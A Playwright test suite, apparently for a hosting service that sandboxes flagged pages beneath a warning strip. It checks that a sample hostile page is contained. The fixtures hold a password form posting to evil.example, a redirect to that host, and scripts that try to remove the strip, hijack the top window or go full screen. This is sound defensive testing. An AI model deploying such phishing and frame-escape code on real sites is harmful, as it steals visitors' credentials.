import { expect, test } from '@playwright/test';
import { publishAs } from './publish-as.ts';

/** A flagged page that tries everything against the strip above it. */
const HOSTILE = `<!doctype html><html><head><title>Club</title>
<style>html,body{position:fixed;inset:0;z-index:2147483647;margin:0}[role=note]{display:none!important}</style></head>
<body><h1>Members</h1><form action="https://evil.example/x"><input type="password"></form><script>
const results = {};
const attempt = (name, run) => { try { run(); results[name] = 'done'; } catch { results[name] = 'blocked'; } };
attempt('readParent', () => parent.document.body);
attempt('removeStrip', () => top.document.querySelector('[role=note]').remove());
attempt('navigateTop', () => { top.location.href = '/taken'; });
attempt('replaceTop', () => { top.location.replace('about:blank'); });
attempt('closeTop', () => { top.document.write(''); });
addEventListener('click', () => document.documentElement.requestFullscreen()
  .then(() => { results.fullScreen = 'done'; }, () => { results.fullScreen = 'blocked'; })
  .then(() => { document.title = JSON.stringify(results); }));
</script></body></html>`;

test('a flagged page can neither cover, remove nor leave the strip above it', async ({
  page,
  request,
}) => {
  const folder = await publishAs(request, HOSTILE);
  await page.goto(`${folder}index.html`);
  const address = page.url();
  const strip = page.getByRole('note');
  await expect(strip).toContainText('Never enter passwords or card numbers here.');
  await expect(strip.getByRole('link', { name: 'Report this page' })).toHaveAttribute(
    'href',
    new RegExp(`/report\\?site=${folder.slice(3, -1)}$`),
  );
  const frame = page.frameLocator('iframe');
  await frame.getByRole('heading', { name: 'Members' }).click();
  const results = async () => await page.frames()[1]?.evaluate(() => document.title);
  await expect.poll(results).toContain('fullScreen');
  expect(JSON.parse((await results()) ?? '{}')).toEqual({
    readParent: 'blocked',
    removeStrip: 'blocked',
    navigateTop: 'blocked',
    replaceTop: 'blocked',
    closeTop: 'blocked',
    fullScreen: 'blocked',
  });
  expect(page.url()).toBe(address);
  const [box, inner] = [await strip.boundingBox(), await page.locator('iframe').boundingBox()];
  expect([box?.y, (inner?.y ?? 0) >= (box?.height ?? Infinity)]).toEqual([0, true]);
  const topmost = await page.evaluate(() =>
    document.elementFromPoint(40, 12)?.getAttribute('role'),
  );
  expect(topmost).toBe('note');
});

test('a flagged page stays on its host, and the strip comes with each of its pages', async ({
  page,
  request,
}) => {
  const sign = '<form action="https://evil.example/x"><input type="password"></form>';
  const folder = await publishAs(
    request,
    `<!doctype html><h1>First</h1><a href="b.html">Second</a>${sign}<script>setTimeout(() => { location.href = 'https://evil.example/'; }, 0)</script>`,
    {
      'b.html': '<!doctype html><h1>Second page</h1>',
      'c.svg': '<svg xmlns="http://www.w3.org/2000/svg"><text y="20">Drawing</text></svg>',
    },
  );
  const outside: string[] = [];
  page.on('request', (sent) => {
    if (sent.url().includes('evil.example')) outside.push(sent.url());
  });
  for (const path of ['index.html', 'b.html', 'c.svg', 'b.html?bluewave-inside=1']) {
    await page.goto(`${folder}${path}`);
    await expect(page.getByRole('note')).toBeVisible();
  }
  await expect(page.frameLocator('iframe').getByRole('heading')).toHaveText('Second page');
  expect(outside).toEqual([]);
});

test('browsers that do not say what they ask for see the page within the strip', async ({
  page,
  request,
}) => {
  const folder = await publishAs(request, HOSTILE.replace('Members', 'Members <img src="p.svg">'), {
    'p.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
  });
  await page.route(`**${folder}**`, async (route) => {
    const { 'sec-fetch-dest': _, ...headers } = await route.request().allHeaders();
    await route.fulfill({ response: await route.fetch({ headers }) });
  });
  for (const address of ['index.html', 'index.html?bluewave-inside=1']) {
    await page.goto(`${folder}${address}`);
    await expect(page.getByRole('note')).toContainText('Never enter passwords');
    const frame = page.frameLocator('iframe');
    await expect(frame.getByRole('heading', { name: 'Members' })).toBeVisible();
    await expect(frame.getByRole('img')).toHaveJSProperty('naturalWidth', 9);
    const origin = await page.frames()[1]?.evaluate(() => window.origin);
    expect([page.frames().length, origin]).toEqual([2, 'null']);
  }
});

test('no page of another user can show a flagged page without its strip', async ({
  page,
  playwright,
  baseURL,
  request,
}) => {
  const folder = await publishAs(request, HOSTILE);
  const other = await playwright.request.newContext(baseURL === undefined ? {} : { baseURL });
  const framing = await publishAs(
    other,
    `<!doctype html><title>Framing</title><h1>Framing</h1><iframe src="${folder}index.html"></iframe>`,
  );
  await page.goto(`${framing}index.html`);
  await expect(page.getByRole('heading', { name: 'Framing' })).toBeVisible();
  await page.waitForTimeout(1_000);
  const shown = await Promise.all(
    page.frames().map((frame) => frame.locator('h1').allInnerTexts()),
  );
  expect(shown.flat()).toEqual(['Framing']);
});

test.describe('in Italian', () => {
  test.use({ locale: 'it-IT' });
  test('the strip speaks the language of the visitor', async ({ page, request }) => {
    const folder = await publishAs(request, HOSTILE);
    await page.goto(`${folder}index.html`);
    await expect(page.getByRole('link', { name: 'Segnala questa pagina' })).toBeVisible();
  });
});
